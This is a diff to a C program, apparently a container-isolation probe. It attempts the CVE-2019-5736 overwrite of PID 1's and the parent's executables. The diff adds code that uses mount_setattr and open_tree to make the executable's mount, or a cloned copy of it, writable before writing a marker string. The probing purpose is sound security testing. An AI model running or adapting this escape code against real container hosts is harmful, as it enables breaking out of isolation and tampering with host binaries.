@@ -8,6 +8,7 @@
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -22,6 +23,17 @@ static void try_to_write(const char *what, int file) {
   int again = open(path, O_WRONLY);
   tell(what, again < 0 ? -1 : write(again, "overwritten", 11));
   if (again >= 0) close(again);
+}
+
+// Makes the mount of an executable writable, or a copy of that mount: it may be what keeps us from writing.
+static void try_to_unlock(int file) {
+  unsigned long long attributes[4] = {0, MOUNT_ATTR_RDONLY, 0, 0};
+  tell("overwrite, mount", syscall(SYS_mount_setattr, file, "", AT_EMPTY_PATH, attributes, sizeof attributes));
+  int copy = syscall(SYS_open_tree, file, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
+  if (copy < 0) return;
+  tell("overwrite, copied mount", syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, attributes, sizeof attributes));
+  try_to_write("overwrite, in the copy", copy);
+  close(copy);
 }
 
 // overwrite: the executables of PID 1 and of the parent (CVE-2019-5736), while they
@@ -40,8 +52,10 @@ int overwrite_command(int count, char **arguments) {
     ssize_t size = readlink(path, target, sizeof target - 1);
     target[size < 0 ? 0 : size] = 0;
     say("%s is %s", names[i], target);
-    // PID 1 may be the machine's own.
-    if (strncmp(target, "/memfd:", 7) == 0 || i == 1) try_to_write("overwrite, running", files[i]);
+    // PID 1 may be the machine's own, which has a path here.
+    if (i == 0 && strncmp(target, "/memfd:", 7) != 0 && strcmp(target, "/") != 0) continue;
+    try_to_unlock(files[i]);
+    try_to_write("overwrite, running", files[i]);
   }
   if (process < 0) return 0;
   if (fork() > 0) return 0;
